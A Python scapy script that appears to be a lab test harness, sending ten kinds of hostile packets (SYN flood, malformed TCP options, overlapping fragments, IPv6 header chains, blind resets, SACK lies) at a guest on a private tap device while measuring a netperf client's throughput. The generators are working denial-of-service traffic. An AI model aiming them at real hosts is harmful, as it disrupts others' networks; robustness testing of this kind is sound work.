#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Hostile packets against a guest behind the tap device t0, an honest client beside them.

Usage: attacks.py [--compare] NETPERF SECONDS RATE [NAME...]

Every attack is a list of frames, made once and sent again and again, RATE a second,
while an honest client (netperf TCP_RR) runs; with --compare the client runs also while
the same frames go to an address that nobody has.  One line of JSON for each attack:
{"attack": …, "sent": …, "attacked": transactions a second, "reference": …, "ratio": …}
"""

import json
import random
import re
import socket
import struct
import subprocess
import sys
import threading
import time

from scapy.all import (ARP, ICMP, IP, TCP, UDP, Ether, ICMPv6EchoRequest, ICMPv6ND_NS, ICMPv6NDOptSrcLLAddr, IPv6,
                       IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN, getmacbyip,
                       raw)

US, GUEST, NOBODY = "192.168.77.1", "192.168.77.2", "192.168.77.200"
US6, GUEST6, NOBODY6 = "fd77::1", "fd77::2", "fd77::200"
PEER = "192.168.77.9"          # a station that only the attacker plays
PEER_MAC, NOBODY_MAC = "02:00:00:00:00:09", "02:00:00:00:00:c8"
PORT = 12865                   # netserver listens there
ECHO = 7                       # so does a server that answers what it reads
random.seed(1)


def syn(src, sport, options, dport=PORT):
    return IP(src=src, dst=GUEST) / TCP(sport=sport, dport=dport, flags="S", seq=random.getrandbits(32),
                                        options=options)


def malformed_options():
    """Lengths of 0 and 1, beyond the header, unknown kinds; in SYNs and in segments of no connection."""
    packets = []
    for i in range(256):
        segment = bytearray(raw(syn(PEER, 1024 + i, [("MSS", 1460)] * 5)))
        segment[40:60] = random.randbytes(20)
        if i % 2:
            segment[33] = 0x10
        segment[36:38] = b"\0\0"
        packet = IP(bytes(segment))
        del packet[TCP].chksum, packet[IP].chksum
        packets.append(packet)
    return packets


def overlapping_fragments():
    packets = []
    data = random.randbytes(2400)
    for i in range(100):
        at = random.randrange(1, 150)  # in units of eight bytes
        first, second = data[:1200], data[8 * at:8 * at + 1200]
        packets += [IP(src=PEER, dst=GUEST, id=i, flags=1, proto=1) / first,
                    IP(src=PEER, dst=GUEST, id=i, frag=at, flags=1, proto=1) / second,
                    IPv6(src=US6, dst=GUEST6) / IPv6ExtHdrFragment(id=i, m=1, nh=58) / first,
                    IPv6(src=US6, dst=GUEST6) / IPv6ExtHdrFragment(id=i, offset=at, m=1, nh=58) / second]
    return packets


def extension_headers():
    packets = []
    for n in (1, 5, 20, 60):
        chain = IPv6(src=US6, dst=GUEST6)
        for i in range(n):
            chain /= (IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0" * 4)]), IPv6ExtHdrRouting(),
                      IPv6ExtHdrHopByHop(), IPv6ExtHdrFragment(id=i))[i % 4]
        packets.append(chain / ICMPv6EchoRequest())
        packets.append(IPv6(src=US6, dst=GUEST6, nh=60) / ((b"\x3c\xff" + b"\0" * 6) * n))
    return packets


def syn_flood():
    return [syn(f"192.168.77.{random.randrange(10, 190)}", random.randrange(1024, 65535),
                [("MSS", 1460), ("SAckOK", b""), ("WScale", 7)], ECHO) for _ in range(500)]


def mss_zero():
    return [syn(PEER, 2000 + i, [("MSS", i % 3)]) for i in range(200)]


def resets():
    """Guesses at somebody's connection: RST, SYN and data with random numbers from every port."""
    return [IP(src=US, dst=GUEST) / TCP(sport=random.randrange(32768, 61000), dport=PORT, seq=random.getrandbits(32),
                                        ack=random.getrandbits(32), flags=random.choice(("R", "S", "A", "FA", "RA")))
            for _ in range(500)]


def neighbours():
    packets = [IP(src=f"192.168.77.{i}", dst=GUEST) / ICMP() for i in range(10, 190)]
    for i in range(300):
        source = f"fd77::{i + 0x1000:x}"
        packets.append(IPv6(src=source, dst="ff02::1:ff00:2") / ICMPv6ND_NS(tgt=GUEST6)
                       / ICMPv6NDOptSrcLLAddr(lladdr=f"02:00:00:01:{i >> 8:02x}:{i & 255:02x}"))
        packets.append(IPv6(src=source, dst=GUEST6) / ICMPv6EchoRequest())
    return packets


def closed_ports():
    return [IP(src=PEER, dst=GUEST) / UDP(sport=1000, dport=random.randrange(20000, 30000)) / b"x" for _ in range(500)]


class Connection:
    """A connection of the peer that nobody's kernel knows: handshake by hand."""

    def __init__(self, wire, sport):
        self.wire, self.sport, self.seq = wire, sport, 1000
        self.wire.settimeout(5)
        self.send("S", options=[("MSS", 1000), ("SAckOK", b"")])
        answer = self.receive(lambda t: t.flags.S and t.flags.A)
        self.seq, self.ack = 1001, answer.seq + 1
        self.send("A")

    def packet(self, flags, seq=None, data=b"", options=()):
        return IP(src=PEER, dst=GUEST) / TCP(sport=self.sport, dport=ECHO, flags=flags, options=list(options),
                                             seq=(self.seq if seq is None else seq) & 0xffffffff,
                                             ack=getattr(self, "ack", 0)) / data

    def send(self, *args, **kw):
        self.wire.send(raw(Ether(dst=MAC, src=PEER_MAC) / self.packet(*args, **kw)))

    def receive(self, wanted):
        end = time.monotonic() + 5
        while time.monotonic() < end:
            frame = Ether(self.wire.recv(65536))
            if frame.haslayer(TCP) and frame[IP].src == GUEST and frame[TCP].dport == self.sport and wanted(frame[TCP]):
                return frame[TCP]
        raise SystemExit("no answer to the attacker's handshake")


def out_of_order(wire):
    """Single bytes with holes between, all over the window."""
    c = Connection(wire, 3000)
    return [c.packet("A", seq=c.seq + 2 * i, data=b"x") for i in range(1, 1000)]


def sack_lies(wire):
    """Blocks for what was never sent, backwards, overlapping, the whole space."""
    c = Connection(wire, 3001)
    c.send("PA", data=b"y" * 900)
    packets = []
    for _ in range(300):
        near = [(c.ack + random.randrange(-2000, 4000)) & 0xffffffff for _ in range(2 * random.randrange(1, 4))]
        blocks = [n if random.random() < .7 else random.getrandbits(32) for n in near]
        packets.append(c.packet("A", seq=c.seq + 900, options=[("SAck", tuple(blocks))]))
    return packets


ATTACKS = [malformed_options, overlapping_fragments, extension_headers, syn_flood, mss_zero, resets, neighbours,
           closed_ports, out_of_order, sack_lies]


def frames(packets):
    return [raw(Ether(dst=MAC, src=PEER_MAC) / p)[:1514] for p in packets]


def elsewhere(frame):
    """The same frame to an address that nobody has (its transport checksum is nobody's affair either)."""
    head = bytearray(frame)
    head[:6] = bytes.fromhex(NOBODY_MAC.replace(":", ""))
    if head[12:14] == b"\x86\xdd":
        head[38:54] = socket.inet_pton(socket.AF_INET6, NOBODY6)
    else:
        head[30:34] = socket.inet_aton(NOBODY)
        head[24:26] = b"\0\0"
        total = sum(struct.unpack("!10H", head[14:34]))
        struct.pack_into("!H", head, 24, ~((total & 0xffff) + (total >> 16)) & 0xffff)
    return bytes(head)


class Sender(threading.Thread):
    """Sends the frames in turn, at most @rate a second, until told to stop."""

    def __init__(self, wire, packets, rate):
        super().__init__(daemon=True)
        self.wire, self.packets, self.rate = wire, packets, rate
        self.sent, self.over = 0, False

    def run(self):
        start = time.monotonic()
        while not self.over:
            while self.sent > (time.monotonic() - start) * self.rate and not self.over:
                time.sleep(.002)
            try:
                self.wire.send(self.packets[self.sent % len(self.packets)])
            except OSError:
                time.sleep(.002)  # the device's queue is full
            self.sent += 1


class Station(threading.Thread):
    """Answers the guest's questions for the peer's hardware address."""

    def __init__(self):
        super().__init__(daemon=True)
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
        self.wire.bind(("t0", 0))

    def run(self):
        while True:
            question = Ether(self.wire.recv(2048))
            if question.haslayer(ARP) and question[ARP].op == 1 and question[ARP].pdst == PEER:
                self.wire.send(raw(Ether(dst=question.src, src=PEER_MAC)
                                   / ARP(op=2, hwsrc=PEER_MAC, psrc=PEER, hwdst=question.src, pdst=question[ARP].psrc)))


def honest(netperf, seconds, again=True):
    """Transactions a second of a client that plays by the rules; it may try twice, since packets can be lost."""
    done = subprocess.run([netperf, "-H", GUEST, "-t", "TCP_RR", "-l", str(seconds), "-P", "0"], capture_output=True,
                          text=True, timeout=seconds + 60, check=False)
    rates = re.findall(r"^\d+ +\d+ +\d+ +\d+ +[\d.]+ +([\d.]+) *$", done.stdout, re.MULTILINE)
    if (done.returncode or not rates) and again:
        return honest(netperf, seconds, False)
    if done.returncode or not rates:
        raise SystemExit(f"the honest client failed: {done.stdout}{done.stderr}")
    return float(rates[0])


def under(wire, packets, rate, netperf, seconds):
    sender = Sender(wire, packets, rate)
    sender.start()
    got = honest(netperf, seconds)
    sender.over = True
    sender.join()
    return got, sender.sent


def main():
    compare = sys.argv[1] == "--compare"
    netperf, seconds, rate, *names = sys.argv[1 + compare:]
    seconds, rate = int(seconds), int(rate)
    global MAC
    MAC = getmacbyip(GUEST)
    Station().start()
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    wire.bind(("t0", 0))
    for attack in ATTACKS:
        if names and attack.__name__ not in names:
            continue
        hostile = frames(attack(wire) if attack.__code__.co_argcount else attack())
        result = {"attack": attack.__name__}
        if compare:
            result["reference"], _ = under(wire, [elsewhere(f) for f in hostile], rate, netperf, seconds)
        result["attacked"], result["sent"] = under(wire, hostile, rate, netperf, seconds)
        if compare:
            result["ratio"] = round(result["attacked"] / result["reference"], 3)
        print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
